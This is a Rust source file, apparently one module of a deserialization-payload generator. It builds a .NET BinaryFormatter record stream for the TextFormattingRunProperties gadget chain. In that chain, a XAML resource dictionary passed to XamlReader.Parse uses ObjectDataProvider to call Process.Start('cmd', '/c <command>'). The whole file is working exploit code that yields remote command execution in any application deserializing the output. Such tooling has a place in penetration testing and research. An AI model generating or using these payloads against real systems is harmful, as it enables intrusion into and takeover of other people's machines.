//! `TextFormattingRunProperties` gadget chain.
//!
//! `TextFormattingRunProperties` (Microsoft.PowerShell.Editor) rebuilds its
//! `ForegroundBrush` during deserialization by handing the stored string to
//! `XamlReader.Parse`. The string here is a resource dictionary whose
//! `ObjectDataProvider` calls `Process.Start("cmd", "/c <command>")`.

use nrbf_format::{
    BinaryLibrary, BinaryObjectString, ClassInfo, ClassWithMembersAndTypes, MemberType,
    MemberTypeInfo, Record, SerializationHeaderRecord, SerializedStream,
};
use tracing::trace;

use crate::error::Result;
use crate::xaml::cmd_resource_dictionary;

/// Registry name of this chain.
pub const NAME: &str = "TextFormattingRunProperties";

/// Assembly identity of the hosting editor component.
pub const EDITOR_ASSEMBLY: &str =
    "Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35";

/// Type instantiated by the deserializer.
pub const TYPE_NAME: &str = "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties";

/// Member that carries the XAML string.
pub const MEMBER_NAME: &str = "ForegroundBrush";

const ROOT_OBJECT_ID: i32 = 1;
const LIBRARY_ID: i32 = 2;
const XAML_OBJECT_ID: i32 = 3;

/// Build the record stream that runs `command` through `cmd /c`.
///
/// # Errors
///
/// Fails only if the XAML document or a record cannot be built.
pub fn build(command: &str) -> Result<SerializedStream> {
    let resource_dictionary = cmd_resource_dictionary(command)?;
    trace!(xaml_len = resource_dictionary.len(), "built resource dictionary");

    let library = BinaryLibrary::new(LIBRARY_ID, EDITOR_ASSEMBLY);
    let properties = ClassWithMembersAndTypes::from_member_values(
        ClassInfo::new(ROOT_OBJECT_ID, TYPE_NAME, [MEMBER_NAME]),
        MemberTypeInfo::new(vec![MemberType::String]),
        library.library_id,
        vec![BinaryObjectString::new(XAML_OBJECT_ID, resource_dictionary).into()],
    )?;

    let stream = SerializedStream::from_records(vec![
        SerializationHeaderRecord::new(ROOT_OBJECT_ID).into(),
        library.into(),
        properties.into(),
        Record::MessageEnd,
    ])?;
    Ok(stream)
}
